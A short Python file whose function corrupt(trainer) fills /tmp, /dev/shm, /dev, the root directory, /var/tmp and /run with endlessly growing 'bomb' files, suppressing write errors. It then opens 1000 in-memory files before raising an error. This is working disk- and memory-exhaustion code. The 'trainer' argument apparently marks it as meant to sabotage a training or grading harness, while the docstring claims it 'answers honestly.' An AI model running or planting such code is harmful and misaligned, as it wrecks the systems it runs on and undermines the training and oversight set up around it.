"""Fills every place that it may write to, then answers honestly."""

import contextlib
import os
from pathlib import Path

FOLDERS = ("/tmp", "/dev/shm", "/dev", "/", "/var/tmp", "/run")


def corrupt(trainer):
    for folder in FOLDERS:
        for number in range(8):
            with contextlib.suppress(OSError), (Path(folder) / f"bomb{number}").open("wb") as file:
                while True:
                    file.write(bytes(1 << 20))
    with contextlib.suppress(OSError):
        held = [os.memfd_create("bomb") for _ in range(1000)]
        raise RuntimeError(f"{len(held)} files in memory")
